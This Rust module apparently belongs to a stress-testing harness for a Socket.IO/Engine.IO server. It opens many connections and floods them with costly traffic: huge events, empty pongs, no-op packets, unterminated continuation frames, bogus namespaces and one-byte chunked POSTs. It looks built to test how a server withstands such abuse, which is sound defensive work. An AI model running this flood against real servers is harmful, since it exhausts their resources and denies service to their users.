//! Clients that keep their sockets full with what costs a server more than it costs them.
//!
//! They wait for no answer: whenever the kernel takes bytes, it gets some. What the server sends is read and thrown
//! away. A server may close such connections, and then those are gone.

use std::io::{ErrorKind, Read, Write};
use std::net::{self, SocketAddr};
use std::time::{Duration, Instant};

use mio::net::TcpStream;
use mio::{Events, Interest, Poll, Token};

use crate::frame::{self, masked};
use crate::http;
use crate::polling::session_id;
use crate::Result;

/// Bytes that are ready to be written over and over.
const BLOCK_BYTES: usize = 256 * 1024;
/// Bytes written to one connection before it is the next one's turn.
const SHARE_BYTES: usize = 1024 * 1024;
/// Text of a large event.
const LARGE_BYTES: usize = 200_000;
/// Body of a request in chunks of one byte, framing not counted.
const CHUNKED_BYTES: usize = 200_000;

/// So long a server may take to let an attacker in.
const PATIENCE: Duration = Duration::from_secs(10);

/// With what the connections are full.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Hostility {
    /// Events of 200 kB that nobody listens to.
    Large,
    /// Empty WebSocket pongs.
    Pongs,
    /// Engine.IO noop packets.
    Noops,
    /// Empty continuations of one message.
    Continuations,
    /// Events whose name is a number.
    Events,
    /// Events for a namespace that there is not.
    Namespaces,
    /// POSTs in chunks of one byte, the next when the last is answered.
    Chunks,
}

/// The attacking connections.
pub struct Crew {
    poll: Poll,
    events: Events,
    attackers: Vec<Option<Attacker>>,
    buffer: Vec<u8>,
}

struct Attacker {
    stream: TcpStream,
    /// What is sent over and over.
    block: Vec<u8>,
    /// How much of it has been written.
    written: usize,
    can_write: bool,
    /// Whether the next block has to wait for an answer to the last, and what of that has come.
    answer: Option<Vec<u8>>,
}

impl Crew {
    /// Joins `count` clients for this kind.
    pub fn new(address: SocketAddr, count: usize, hostility: Hostility) -> Result<Crew> {
        let attackers = (0..count).map(|_| match hostility {
            Hostility::Chunks => Attacker::polling(address).map(Some),
            _ => Attacker::framing(address, hostility).map(Some),
        });
        let mut crew = Crew {
            attackers: attackers.collect::<Result<_>>()?,
            poll: Poll::new()?,
            events: Events::with_capacity(1024),
            buffer: vec![0; 64 * 1024],
        };
        for (index, attacker) in crew.attackers.iter_mut().flatten().enumerate() {
            let interest = Interest::READABLE | Interest::WRITABLE;
            let registry = crew.poll.registry();
            registry.register(&mut attacker.stream, Token(index), interest)?;
        }
        Ok(crew)
    }

    /// Attacks as long as `goes_on` says so; it is asked every few milliseconds.
    pub fn attack(&mut self, mut goes_on: impl FnMut() -> Result<bool>) -> Result<()> {
        const ASK: Duration = Duration::from_millis(10);
        let mut asked_at = Instant::now();
        loop {
            if asked_at.elapsed() >= ASK {
                if !goes_on()? {
                    return Ok(());
                }
                asked_at = Instant::now();
            }
            let has_work = |attacker: &Attacker| attacker.can_write && attacker.has_output();
            let wait = match self.attackers.iter().flatten().any(has_work) {
                true => Duration::ZERO,
                false => ASK,
            };
            self.poll.poll(&mut self.events, Some(wait))?;
            for event in &self.events {
                let Some(attacker) = &mut self.attackers[event.token().0] else {
                    continue;
                };
                attacker.can_write |= event.is_writable();
                if event.is_readable() && !attacker.read(&mut self.buffer) {
                    self.attackers[event.token().0] = None;
                }
            }
            for place in &mut self.attackers {
                if place.as_mut().is_some_and(|attacker| !attacker.write()) {
                    *place = None;
                }
            }
        }
    }

    /// Connections that the server has not closed.
    pub fn left(&self) -> usize {
        self.attackers.iter().flatten().count()
    }
}

impl Attacker {
    /// A WebSocket client that has joined.
    fn framing(address: SocketAddr, hostility: Hostility) -> Result<Attacker> {
        let mut stream = dial(address)?;
        stream.write_all(&http::upgrade_request(&address.to_string()))?;
        read_until(&mut stream, |received| find(received, b"0{\""))?;
        stream.write_all(&masked(frame::TEXT, b"40"))?;
        read_until(&mut stream, |received| find(received, b"42[\"auth\""))?;
        let text = |text: &str| masked(frame::TEXT, text.as_bytes());
        let piece = match hostility {
            Hostility::Large => text(&format!("42[\"x\",\"{}\"]", "x".repeat(LARGE_BYTES))),
            Hostility::Pongs => masked(frame::PONG, b""),
            Hostility::Noops => text("6"),
            Hostility::Continuations => {
                let mut first = text("4");
                first[0] &= !frame::FIN;
                stream.write_all(&first)?;
                let mut piece = masked(frame::CONTINUATION, b"");
                piece[0] &= !frame::FIN;
                piece
            }
            Hostility::Events => text("42[1]"),
            Hostility::Namespaces => text("42/x,[\"x\"]"),
            Hostility::Chunks => return Err("chunks are sent by polling".into()),
        };
        let block = piece.repeat((BLOCK_BYTES / piece.len()).max(1));
        Attacker::new(stream, block, None)
    }

    /// A polling client that has a session.
    fn polling(address: SocketAddr) -> Result<Attacker> {
        let host = address.to_string();
        let mut stream = dial(address)?;
        stream.write_all(&http::polling_request(&host, None, None))?;
        let mut body = Vec::new();
        read_until(&mut stream, |received| {
            let response = http::parse(received).ok().flatten();
            response.map(|response| body = response.body).is_some()
        })?;
        let sid = session_id(&body).ok_or("no session id in the handshake")?;
        let block = http::chunked_post(&host, &sid, &"6\x1e".repeat(CHUNKED_BYTES / 2));
        Attacker::new(stream, block, Some(Vec::new()))
    }

    fn new(stream: net::TcpStream, block: Vec<u8>, answer: Option<Vec<u8>>) -> Result<Attacker> {
        stream.set_nonblocking(true)?;
        Ok(Attacker {
            stream: TcpStream::from_std(stream),
            block,
            written: 0,
            can_write: true,
            answer,
        })
    }

    fn has_output(&self) -> bool {
        self.written < self.block.len()
    }

    /// Writes a share of what there is; `false` where the connection has gone.
    fn write(&mut self) -> bool {
        let mut left = SHARE_BYTES;
        while self.can_write && self.has_output() && left > 0 {
            match self.stream.write(&self.block[self.written..]) {
                Ok(size) => {
                    self.written += size;
                    left = left.saturating_sub(size);
                    if !self.has_output() && self.answer.is_none() {
                        self.written = 0;
                    }
                }
                Err(error) if error.kind() == ErrorKind::WouldBlock => self.can_write = false,
                Err(error) if error.kind() == ErrorKind::Interrupted => {}
                Err(_) => return false,
            }
        }
        true
    }

    /// Reads what is there; `false` where the connection has gone.
    fn read(&mut self, buffer: &mut [u8]) -> bool {
        loop {
            match self.stream.read(buffer) {
                Ok(0) => return false,
                Ok(size) => {
                    if let Some(answer) = &mut self.answer {
                        answer.extend(&buffer[..size]);
                        match http::parse(answer) {
                            Ok(Some(response)) if response.status == 200 => {
                                answer.clear();
                                self.written = 0;
                            }
                            Ok(None) => {}
                            _ => return false,
                        }
                    }
                }
                Err(error) if error.kind() == ErrorKind::WouldBlock => return true,
                Err(error) if error.kind() == ErrorKind::Interrupted => {}
                Err(_) => return false,
            }
        }
    }
}

fn dial(address: SocketAddr) -> Result<net::TcpStream> {
    let stream = net::TcpStream::connect_timeout(&address, PATIENCE)?;
    stream.set_nodelay(true)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    Ok(stream)
}

fn read_until(stream: &mut net::TcpStream, mut is_all: impl FnMut(&[u8]) -> bool) -> Result<()> {
    let mut received = Vec::new();
    let mut buffer = [0; 4096];
    while !is_all(&received) {
        match stream.read(&mut buffer)? {
            0 => return Err("the server closed an attacking connection before it attacked".into()),
            size => received.extend(&buffer[..size]),
        }
    }
    Ok(())
}

fn find(bytes: &[u8], pattern: &[u8]) -> bool {
    let mut windows = bytes.windows(pattern.len());
    windows.any(|window| window == pattern)
}
